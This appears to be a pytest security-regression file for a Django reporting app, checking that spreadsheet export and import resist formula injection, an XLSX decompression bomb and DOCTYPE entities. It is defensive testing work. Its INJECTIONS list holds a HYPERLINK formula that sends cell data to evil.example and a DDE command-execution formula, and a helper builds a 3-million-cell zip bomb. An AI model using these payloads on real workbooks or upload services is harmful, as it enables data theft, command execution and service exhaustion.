"""The probe's spreadsheet reproducers: formula injection through a comment, an XLSX bomb, a DOCTYPE."""

import io
import time
import zipfile

import pytest
from openpyxl import load_workbook

from tiendo.reporting.models import DataValue, Submission
from tiendo.reporting.tests.test_xlsx import URL, download, fill, upload

pytestmark = pytest.mark.django_db

INJECTIONS = ['=HYPERLINK("http://evil.example/steal?d="&B8,"Chi tiết")', "=cmd|' /C calc'!A0"]


def test_a_comment_typed_as_a_formula_reaches_the_reviewers_workbook_as_text(
    client, small_forms, tinhkhe_reporter
):
    client.force_login(tinhkhe_reporter)
    client.get(URL)
    submission = Submission.objects.get(dataset__code="T-XA-Q", unit__code="21211")
    client.post(
        URL + "action",
        {
            "action": "save",
            "version": submission.version,
            "v_T_STAFF": "40",
            "c_T_STAFF": INJECTIONS[0],
            "v_T_TRAINED": "3",
            "c_T_TRAINED": INJECTIONS[1],
        },
    )
    assert set(DataValue.objects.values_list("comment", flat=True)) >= set(INJECTIONS)
    book = load_workbook(io.BytesIO(download(client)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {cell.value for cell in cells} >= set(INJECTIONS)


def with_part(content: bytes, name: str, replace) -> bytes:
    """The workbook with one zip member rewritten."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            target.writestr(member.filename, replace(data) if member.filename == name else data)
    return output.getvalue()


def bomb_rows(data: bytes) -> bytes:
    """3 million cells after the form's rows: the probe's 190 KB / 3 M cells bomb."""
    row = b"<row>" + b'<c t="n"><v>1</v></c>' * 1000 + b"</row>"
    return data.replace(b"</sheetData>", row * 3000 + b"</sheetData>")


def test_an_xlsx_bomb_is_refused_quickly_and_changes_nothing(client, small_forms, tinhkhe_reporter):
    client.force_login(tinhkhe_reporter)
    client.get(URL)
    bomb = with_part(fill(download(client), {"T_STAFF": 40}), "xl/worksheets/sheet1.xml", bomb_rows)
    assert len(bomb) < 500_000
    started = time.monotonic()
    html = upload(client, bomb).content.decode()
    assert time.monotonic() - started < 5  # the probe measured 67 s and 2.45 GB before
    assert "nothing was imported" in html and "expands to too much" in html
    assert not DataValue.objects.filter(unit__code="21211").exists()


def test_a_doctype_in_the_workbooks_xml_is_refused_clearly_not_a_500(client, small_forms, tinhkhe_reporter):
    client.force_login(tinhkhe_reporter)
    client.get(URL)

    def doctype(data: bytes) -> bytes:
        entity = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaa">]>'
        assert b"<worksheet" in data
        return data.replace(b"<worksheet", entity + b"<worksheet", 1)

    hostile = with_part(fill(download(client), {"T_STAFF": 40}), "xl/worksheets/sheet1.xml", doctype)
    response = upload(client, hostile)
    assert response.status_code == 200
    assert "declares a DOCTYPE/ENTITY in xl/worksheets/sheet1.xml" in response.content.decode()
    assert not DataValue.objects.filter(unit__code="21211").exists()


def test_rows_past_the_forms_size_are_not_read(client, small_forms, tinhkhe_reporter):
    """A value put far below the form (row 5000) is ignored, not parsed with the millions above it."""
    client.force_login(tinhkhe_reporter)
    client.get(URL)
    book = load_workbook(io.BytesIO(fill(download(client), {"T_STAFF": 40})))
    book["Biểu mẫu"]["A5000"] = "NOT_A_CODE"
    output = io.BytesIO()
    book.save(output)
    html = upload(client, output.getvalue()).content.decode()
    assert "imported 1 values" in html
